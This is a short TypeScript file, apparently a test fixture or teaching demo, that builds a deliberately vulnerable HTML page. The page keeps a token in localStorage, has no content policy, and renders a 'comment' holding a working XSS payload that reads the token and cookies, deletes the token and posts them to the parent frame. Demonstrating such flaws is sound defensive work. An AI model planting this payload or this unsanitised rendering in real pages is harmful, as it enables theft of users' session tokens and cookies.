import { randomId } from '../../../tokens/random-id.ts';

/** As many introductions have it: the token where scripts can read it, no policy, and a comment that is put into the page as it was typed. */
export function weakPage(token = randomId()): string {
  const comment = `<img src="data:," onerror="
    const found = ['localStorage: token ' + localStorage.getItem('token'), ...document.cookie.split('; ').map((each) => 'document.cookie: ' + each)];
    localStorage.removeItem('token');
    parent.postMessage(found, '*');
  ">`;
  return `<!doctype html><title>The twin</title>
<script>localStorage.setItem('token', '${token}')</script>
<p>A comment that somebody left: ${comment}</p>`;
}
